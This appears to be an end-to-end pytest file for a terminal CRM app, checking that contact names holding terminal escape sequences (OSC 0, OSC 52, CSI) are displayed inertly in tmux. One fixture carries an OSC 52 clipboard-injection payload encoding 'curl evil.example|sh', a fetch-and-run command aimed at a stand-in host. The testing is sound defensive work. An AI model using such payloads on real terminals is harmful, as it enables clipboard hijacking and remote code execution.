"""End to end: contacts renamed through the sandbox to hold OSC 0, OSC 52 and CSI sequences.

A colleague (or a web form) can put `\\x1b]0;PWNED\\x1b\\\\` into a name. The real `crmtui --demo` in
tmux shows it, and the pane's title and tmux's paste buffers stay as they were: tmux obeys OSC 0
(it sets the pane title) and, with set-clipboard on, OSC 52 (it makes a paste buffer), so either
would show if the app passed the sequences through.
"""

from __future__ import annotations

from pathlib import Path

import httpx
import pytest

from crmtui.sandbox.onepagecrm.server import SandboxOptions, start_sandbox
from tests.support.waits import HANG_GUARD

from .conftest import DEMO_TODAY, quit_app, start_demo
from .tmux import tmux_available

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.skipif(not tmux_available(), reason="tmux is not installed (the e2e tests drive crmtui in tmux)"),
]

HOSTILE = {
    "first_name": "Title\x1b]0;PWNED\x1b\\",
    "last_name": "Clip\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07",  # "curl evil.example|sh"
}
CLEARING = {"first_name": "Clear\x1b[2J\x1b[H", "last_name": "Red\x1b[31m"}


def rename_through_the_sandbox(database: Path) -> None:
    """Rename the two most urgent contacts of the demo's stream with the demo's own data file."""
    import datetime as dt

    options = SandboxOptions(data=database, today=dt.date.fromisoformat(DEMO_TODAY), seed=42)
    with start_sandbox(options) as sandbox, httpx.Client(
        base_url=sandbox.base_url, auth=(sandbox.user_id, sandbox.api_key), timeout=HANG_GUARD
    ) as api:
        stream = api.get("action_stream", params={"per_page": 2}).json()["data"]["contacts"]
        for item, names in zip(stream, (HOSTILE, CLEARING), strict=True):
            contact = item["contact"]
            body = {"first_name": names["first_name"], "last_name": names["last_name"]}
            for key in ("company_name", "job_title", "tags", "emails", "phones", "urls", "owner_id", "status_id"):
                if contact.get(key):
                    body[key] = contact[key]
            answer = api.put(f"contacts/{contact['id']}", json=body)
            assert answer.status_code == 200, answer.text


def test_escape_sequences_in_names_leave_the_terminal_alone(demo_env: dict[str, str], tmp_path: Path, sessions) -> None:
    rename_through_the_sandbox(Path(demo_env["CRMTUI_DATA_DIR"]) / "demo.sqlite3")
    demo = start_demo(sessions, demo_env, tmp_path, (160, 45), server_options={"set-clipboard": "on"})
    pane = demo.session
    pane.wait_for("updated just now")  # the whole stream is in
    screen = pane.wait_for("Title␛]0;PWNED")  # shown, with the escape character visible
    assert "Clip␛]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=␇" in screen, screen  # in the preview
    pane.send("j")  # the next contact's preview: the whole name, and the screen was not cleared by it
    screen = pane.wait_for("Clear␛[2J␛[H Red␛[31m")
    assert "Title␛]0;PWNED" in screen, screen
    pane.send("Enter")  # its contact detail
    pane.wait_for("Contact · Clear␛[2J␛[H Red␛[31m")
    pane.send("Escape")
    pane.wait_for("Title␛]0;PWNED")
    assert "PWNED" not in pane.pane_title()  # tmux obeys OSC 0: the title would say PWNED
    assert pane.buffers().strip() == "", f"an escape sequence set tmux's clipboard: {pane.buffers()!r}"
    quit_app(demo)
